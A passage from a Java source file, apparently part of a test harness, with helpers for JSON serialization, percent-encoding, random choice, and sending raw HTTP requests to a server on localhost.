        for (int i = 0; i < keysAndValues.length; i += 2) {
            map.put((String) keysAndValues[i], keysAndValues[i + 1]);
        }
        return map;
    }

    private static String json(Object value) {
        StringBuilder out = new StringBuilder();
        write(value, out);
        return out.toString();
    }

    private static void write(Object value, StringBuilder out) {
        if (value == null) {
            out.append("null");
        } else if (value instanceof Raw raw) {
            out.append(raw.json());
        } else if (value instanceof String s) {
            quote(s, out);
        } else if (value instanceof Map<?, ?> map) {
            out.append('{');
            boolean first = true;
            for (Map.Entry<?, ?> entry : map.entrySet()) {
                out.append(first ? "" : ",");
                first = false;
                quote(String.valueOf(entry.getKey()), out);
                out.append(':');
                write(entry.getValue(), out);
            }
            out.append('}');
        } else if (value instanceof List<?> list) {
            out.append('[');
            for (int i = 0; i < list.size(); i++) {
                out.append(i == 0 ? "" : ",");
                write(list.get(i), out);
            }
            out.append(']');
        } else {
            out.append(value);
        }
    }

    /** A JSON string; control characters and every surrogate (paired or not) as \\u escapes. */
    private static void quote(String s, StringBuilder out) {
        out.append('"');
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            if (c == '"' || c == '\\') {
                out.append('\\').append(c);
            } else if (c < 0x20 || Character.isSurrogate(c)) {
                out.append(String.format("\\u%04x", (int) c));
            } else {
                out.append(c);
            }
        }
        out.append('"');
    }

    private static String snake(String camel) {
        return camel.replaceAll("([a-z0-9])([A-Z])", "$1_$2").toLowerCase(java.util.Locale.ROOT);
    }

    /** Percent-encodes UTF-8 (a lone surrogate becomes '?', as Java encodes it). */
    private static String encode(String value) {
        StringBuilder out = new StringBuilder();
        for (byte b : value.getBytes(StandardCharsets.UTF_8)) {
            int c = b & 0xff;
            if (c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '-' || c == '_'
                    || c == '.' || c == '~') {
                out.append((char) c);
            } else {
                out.append('%').append(String.format("%02X", c));
            }
        }
        return out.toString();
    }

    private <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private static String shorten(String text) {
        return text.length() > 600 ? text.substring(0, 600) + "..." : text;
    }

    /**
     * One request on its own connection, written byte for byte (malformed percent-encoding and
     * raw NUL bytes cannot be sent through {@link java.net.http.HttpClient}).
     */
    private Reply send(Request request) {
        try (Socket socket = new Socket("localhost", port)) {
            socket.setSoTimeout(60_000);
            ByteArrayOutputStream head = new ByteArrayOutputStream();
            StringBuilder lines = new StringBuilder();
            lines.append(request.method()).append(' ').append(request.target()).append(" HTTP/1.1\r\n")
                    .append("Host: localhost:").append(port).append("\r\nConnection: close\r\n");
            request.headers().forEach((k, v) -> lines.append(k).append(": ").append(v).append("\r\n"));
            if (request.body() != null) {
                lines.append("Content-Length: ").append(request.body().length).append("\r\n");
            }
            lines.append("\r\n");
            head.writeBytes(lines.toString().getBytes(StandardCharsets.ISO_8859_1));
            OutputStream out = socket.getOutputStream();
            try {
                out.write(head.toByteArray());
                if (request.body() != null) {
                    out.write(request.body());
                }
                out.flush();
            } catch (IOException refusedEarly) {
                // the server may answer (413, 400) and close before it has read the whole body
            }
            InputStream in = socket.getInputStream();
            String raw = new String(in.readAllBytes(), StandardCharsets.UTF_8);
            Matcher status = Pattern.compile("^HTTP/1\\.1 (\\d{3})").matcher(raw);
            return new Reply(status.find() ? Integer.parseInt(status.group(1)) : -1, raw);
        } catch (IOException e) {
            return new Reply(-1, "no answer: " + e);
        }
    }
}
